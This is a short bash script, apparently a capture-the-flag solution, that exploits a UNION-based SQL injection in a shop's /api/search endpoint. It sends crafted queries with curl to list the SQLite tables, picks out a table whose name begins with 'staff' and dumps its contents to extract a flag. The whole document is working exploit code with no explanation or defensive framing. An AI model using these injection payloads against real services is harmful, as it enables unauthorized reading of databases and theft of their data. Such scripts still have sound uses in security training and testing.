#!/bin/bash
# UNION-based SQL injection in /api/search: two columns (name, price);
# enumerate sqlite_master for the randomly named table, then read it.
set -euo pipefail
u=http://shop:8080/api/search
q() { curl -s --get --data-urlencode "q=$1" "$u"; }
tbl=$(q "zzz' UNION SELECT name, 0 FROM sqlite_master WHERE type='table' -- " |
      python3 -c 'import json,sys; print([r["name"] for r in json.load(sys.stdin)["results"] if r["name"].startswith("staff")][0])')
q "zzz' UNION SELECT value, 0 FROM $tbl -- " | grep -o 'flag{[0-9a-f]*}' | head -n1
